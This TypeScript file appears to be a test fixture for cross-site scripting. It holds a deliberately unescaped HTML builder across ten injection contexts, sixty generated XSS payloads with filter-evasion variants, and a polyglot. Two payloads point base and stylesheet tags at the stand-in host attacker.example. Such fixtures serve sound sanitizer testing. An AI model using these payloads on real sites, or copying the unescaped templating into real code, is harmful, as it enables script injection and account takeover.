/** Position in a document where a payload breaks out. The control test inserts it there without escaping. */
type Context =
  | 'html'
  | 'attribute'
  | 'single-quoted'
  | 'unquoted'
  | 'link'
  | 'script'
  | 'json'
  | 'title'
  | 'comment'
  | 'style'

export interface Payload {
  id: number
  context: Context
  /** One line of at most 200 characters, which fits into every text field. */
  text: string
}

const contexts: Record<Context, (text: string) => string> = {
  html: (text) => `<div>${text}</div>`,
  attribute: (text) => `<input value="${text}">`,
  'single-quoted': (text) => `<input value='${text}'>`,
  unquoted: (text) => `<input value=${text}>`,
  link: (text) => `<a href="${text}">link</a>`,
  script: (text) => `<script>var value = "${text}"</script>`,
  json: (text) => `<script type="application/ld+json">{"name":"${text}"}</script>`,
  title: (text) => `<title>${text}</title>`,
  comment: (text) => `<!-- ${text} -->`,
  style: (text) => `<style>a::after{content:"${text}"}</style>`,
}

/** Returns a document with the unescaped payload in its context. */
export function vulnerableDocument({ context, text }: Payload): string {
  return `<!doctype html><html><head></head><body>${contexts[context](text)}</body></html>`
}

/** `CALL` reports that the script ran, `MARK` is an attribute that identifies injected markup. */
const templates: readonly [Context, string][] = [
  ['html', '<script MARK>CALL</script>'],
  ['html', '<SCRIPT MARK>CALL</SCRIPT >'],
  ['html', '<img MARK src=x onerror=CALL>'],
  ['html', '<IMG MARK SRC=x OnErRoR="CALL">'],
  ['html', '<img/MARK/src=x/onerror=CALL>'],
  ['html', '<svg MARK onload=CALL>'],
  ['html', '<svg><script MARK>CALL</script></svg>'],
  ['html', '<svg><animate MARK onbegin=CALL attributeName=x dur=1s>'],
  ['html', '<svg><a MARK xlink:href="javascript:CALL"><text y=20>x</text></a></svg>'],
  ['html', '<svg><use MARK href="data:image/svg+xml,<svg id=x onload=CALL/>#x"></svg>'],
  ['html', '<math><mtext MARK><table><mglyph><style><img src=x onerror=CALL>'],
  ['html', '<math><a MARK xlink:href=javascript:CALL>x</a></math>'],
  ['html', '<iframe MARK srcdoc="<script>CALL</script>"></iframe>'],
  ['html', '<iframe MARK src="javascript:CALL"></iframe>'],
  ['html', '<object MARK data="javascript:CALL"></object>'],
  ['html', '<embed MARK src="data:text/html,<script>CALL</script>">'],
  ['html', '<details MARK open ontoggle=CALL>'],
  ['html', '<video MARK><source onerror=CALL></video>'],
  ['html', '<audio MARK src=x onerror=CALL>'],
  ['html', '<input MARK autofocus onfocus=CALL>'],
  ['html', '<select MARK autofocus onfocus=CALL>'],
  ['html', '<marquee MARK onstart=CALL>x</marquee>'],
  ['html', '<form MARK action="javascript:CALL"><button>x</button></form>'],
  ['html', '<button MARK formaction="javascript:CALL">x</button>'],
  ['html', '<base MARK href="//attacker.example/">'],
  ['html', '<meta MARK http-equiv=refresh content="0;url=javascript:CALL">'],
  ['html', '<link MARK rel=stylesheet href="//attacker.example/x.css">'],
  ['html', '<template><b></b></template><img MARK src=x onerror=CALL>'],
  ['html', '<noscript><p title="</noscript><img MARK src=x onerror=CALL>">'],
  ['html', '<textarea></textarea><img MARK src=x onerror=CALL>'],
  ['html', '<plaintext MARK>'],
  ['html', '<a MARK href="javascript:CALL">x</a>'],
  ['html', '<a MARK href="&#106;avascript:CALL">x</a>'],
  ['html', '<div MARK style="animation:x" onanimationstart=CALL>x</div>'],
  ['html', '<x MARK contenteditable onbeforeinput=CALL>x</x>'],
  ['attribute', '"><script MARK>CALL</script>'],
  ['attribute', '"><img MARK src=x onerror=CALL>'],
  ['attribute', '" MARK autofocus onfocus="CALL'],
  ['attribute', '" MARK onmouseover="CALL" x="'],
  ['single-quoted', "'><svg MARK onload=CALL>"],
  ['single-quoted', "' MARK autofocus onfocus='CALL"],
  ['unquoted', 'x MARK autofocus onfocus=CALL'],
  ['link', 'javascript:CALL'],
  ['link', 'JaVaScRiPt:CALL'],
  ['link', '&#106;&#97;vascript&colon;CALL'],
  ['link', 'javascript://example.md/%0aCALL'],
  ['script', '</script><script MARK>CALL</script>'],
  ['script', '</script><img MARK src=x onerror=CALL>'],
  ['script', '</ScRiPt ><svg MARK onload=CALL>'],
  ['script', '";CALL;//'],
  ['script', '"-CALL-"'],
  ['script', '\\x22;CALL//";CALL;//'],
  ['script', '<!--<script></script>"</script><img MARK src=x onerror=CALL>'],
  ['json', '"}</script><script MARK>CALL</script>'],
  ['json', '</script><svg MARK onload=CALL>'],
  ['title', '</title><script MARK>CALL</script>'],
  ['title', '</title><img MARK src=x onerror=CALL>'],
  ['comment', '--><script MARK>CALL</script>'],
  ['comment', '--!><img MARK src=x onerror=CALL>'],
  ['style', '</style><img MARK src=x onerror=CALL>'],
]

/** Sixty payloads that inject markup or a script. */
export const payloads: readonly Payload[] = templates.map(([context, template], index) => ({
  id: index + 1,
  context,
  text: template.replaceAll('MARK', 'x-xss').replaceAll('CALL', `top.xss(${index + 1})`),
}))

/** One payload that breaks out of text, attributes, URLs and inline scripts. */
export const polyglot: Payload = {
  id: 99,
  context: 'attribute',
  text: `'"></script></title></style>--><img x-xss src=x onerror=top.xss(99)><script x-xss>top.xss(99)</script>`,
}
